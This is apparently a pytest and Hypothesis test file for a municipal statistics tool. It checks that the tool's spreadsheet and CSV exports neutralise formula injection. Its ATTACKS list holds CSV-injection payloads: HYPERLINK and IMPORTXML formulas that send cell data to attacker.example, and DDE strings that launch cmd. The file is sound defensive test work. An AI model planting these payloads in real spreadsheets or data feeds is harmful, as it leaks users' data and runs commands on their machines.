"""Issue 18, finding 1: no spreadsheet or CSV output contains a formula taken from the data.

The attack (reproduced on the code before the fix: 40 formula cells in report.xlsx, 266 in
CSV downloads): an area, stadsdel or programme name beginning with ``=``, ``+``, ``-``, ``@``
becomes a live formula, e.g. a stadsdel named
``=HYPERLINK("http://attacker.example/?d="&B6,"Norrby")``. Every writer is exercised with the
attack strings of OWASP's CSV-injection page (https://owasp.org/www-community/attacks/CSV_Injection)
and Hypothesis text: xlsx files must hold no ``<f>`` (formula) element and no hyperlink that
was not put there by the writer; CSV cells must not begin with a formula character.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path
from types import SimpleNamespace

import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from grannskap.outputs import FORMULA_PREFIXES, csv_bytes, neutralise, write_csv
from grannskap.report.context import Column, SectionResult, Table
from grannskap.report.xlsx import sheet_name, write_xlsx

ATTACKS = [
    '=HYPERLINK("http://attacker.example/?d="&B6,"Norrby")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=cmd|' /C notepad'!'A1'",
    "\t=1+1",
    "\r=1+1",
    '=IMPORTXML(CONCAT("http://attacker.example/?v=", A1), "//a")',
    "＝1+1",
    "http://attacker.example/",
    "-",
    "=",
]
text = st.one_of(st.sampled_from(ATTACKS), st.text(max_size=40))


def _table(names: list[str], title: str = "Områden", label: str = "Område") -> Table:
    frame = pd.DataFrame(
        {
            "name": names,
            "share": [12.345 + i for i in range(len(names))],
            "n": list(range(10, 10 + len(names))),
        }
    )
    return Table(
        "areas",
        title,
        frame,
        [Column("name", label), Column("share", "Andel", "pct1"), Column("n", "Antal", "int")],
        source=names[0] if names else "SCB",
        note=names[-1] if names else "",
        number=3,
    )


def _xlsx_formulas(data: bytes) -> list[str]:
    """Formula elements and hyperlink relations in every sheet of an xlsx file."""
    found = []
    with zipfile.ZipFile(io.BytesIO(data)) as z:
        for name in z.namelist():
            body = z.read(name).decode("utf-8", "replace")
            if name.startswith("xl/worksheets/sheet"):
                found += re.findall(r"<f[ >].*?</f>", body)
            if name.startswith("xl/worksheets/_rels/"):
                found += re.findall(r'Target="[^"]*attacker[^"]*"', body)
    return found


def _csv_bad_cells(data: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_PREFIXES)]


def test_the_attack_reproduces_without_the_guard(tmp_path: Path) -> None:
    """The checks can fail: xlsxwriter's defaults and plain ``to_csv`` produce formulas."""
    import xlsxwriter

    path = tmp_path / "plain.xlsx"
    wb = xlsxwriter.Workbook(str(path))
    wb.add_worksheet().write(0, 0, ATTACKS[0])
    wb.close()
    assert _xlsx_formulas(path.read_bytes())
    plain = pd.DataFrame({"name": ATTACKS}).to_csv(index=False).encode()
    assert len(_csv_bad_cells(plain)) >= 9


@settings(max_examples=30)
@given(names=st.lists(text, min_size=1, max_size=6), title=text, label=text)
def test_report_xlsx_has_no_formula_from_data(
    names: list[str], title: str, label: str, tmp_path_factory: pytest.TempPathFactory
) -> None:
    path = tmp_path_factory.mktemp("x") / "report.xlsx"
    t = _table(names, title, label or "x")
    write_xlsx([SectionResult(title, title, True, tables=[t])], path)
    data = path.read_bytes()
    assert _xlsx_formulas(data) == []
    import openpyxl

    book = openpyxl.load_workbook(io.BytesIO(data))
    ws = book.worksheets[1]
    cells = [ws.cell(row=r, column=1) for r in range(6, 6 + len(names))]
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
    # the attack text is kept as text (not dropped, not prefixed) in the xlsx
    for n, c in zip(names, cells, strict=True):
        if n in ATTACKS and not any(ch in n for ch in "\t\r"):  # xlsx escapes control chars
            assert c.value == n and c.data_type == "s"


@given(names=st.lists(text, min_size=1, max_size=6), title=text)
def test_csv_writers_neutralise_formula_cells(names: list[str], title: str) -> None:
    frame = pd.DataFrame({title or "x": names, "v": range(len(names))})
    data = csv_bytes(frame, preamble=[f"# {title}"], bom=True)
    assert _csv_bad_cells(data) == []
    back = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    # the text survives, with one apostrophe in front where it was needed
    got = [row[0] for row in back[2:]]
    if all(n in ATTACKS for n in names):
        assert got == [neutralise(n) for n in names]


def test_neutralise_follows_owasp() -> None:
    for a in ("=1", "+1", "-1", "@1", "\t1", "\r1"):
        assert neutralise(a) == "'" + a
    assert neutralise("Norrby") == "Norrby"
    assert neutralise(-1.5) == -1.5  # numbers stay numbers
    assert neutralise("1490C1440") == "1490C1440"


def test_dashboard_downloads_have_no_formula() -> None:
    from grannskap.web.downloads import download

    t = _table(ATTACKS, title=ATTACKS[0])
    ctx = SimpleNamespace(kommun="1490", year=2022, lang="sv", t=lambda sv, en: sv)
    d = SimpleNamespace(tables={"areas": t}, ctx=ctx)
    csv_resp = download(d, "areas.csv")  # type: ignore[arg-type]
    assert csv_resp.status == 200
    assert _csv_bad_cells(csv_resp.body) == []
    assert "'=HYPERLINK" in csv_resp.body.decode("utf-8-sig")
    xlsx_resp = download(d, "areas.xlsx")  # type: ignore[arg-type]
    assert xlsx_resp.status == 200
    assert _xlsx_formulas(xlsx_resp.body) == []


def test_cli_csv_writer_neutralises(tmp_path: Path) -> None:
    out = write_csv(pd.DataFrame({"area_code": ATTACKS}), tmp_path / "c.csv")
    assert _csv_bad_cells(out.read_bytes()) == []


@pytest.mark.parametrize(
    "title",
    [
        "x" * 27 + "'abc",  # "T3 " + 27 chars: the apostrophe is the 31st character
        "'Norrby'",
        "a" * 40,
        "History",
        "[]:*?/\\",
        "'" * 40,
    ],
)
def test_sheet_names_excel_accepts(title: str, tmp_path: Path) -> None:
    """An apostrophe at the 31st character made xlsxwriter refuse the sheet (HTTP 500)."""
    name = sheet_name(3, title, set())
    assert 1 <= len(name) <= 31 and not name.startswith("'") and not name.endswith("'")
    t = _table(["a"], title)
    write_xlsx([SectionResult("s", title, True, tables=[t])], tmp_path / "t.xlsx")
    import openpyxl

    assert (
        len(openpyxl.load_workbook(tmp_path / "t.xlsx").worksheets) == 3
    )  # contents, table, notes


@settings(max_examples=30)
@given(titles=st.lists(text, min_size=1, max_size=5))
def test_any_titles_give_a_valid_workbook(
    titles: list[str], tmp_path_factory: pytest.TempPathFactory
) -> None:
    path = tmp_path_factory.mktemp("t") / "t.xlsx"
    tables = [_table(["a"], t) for t in titles]
    write_xlsx([SectionResult("s", "s", True, tables=tables)], path)
    assert _xlsx_formulas(path.read_bytes()) == []
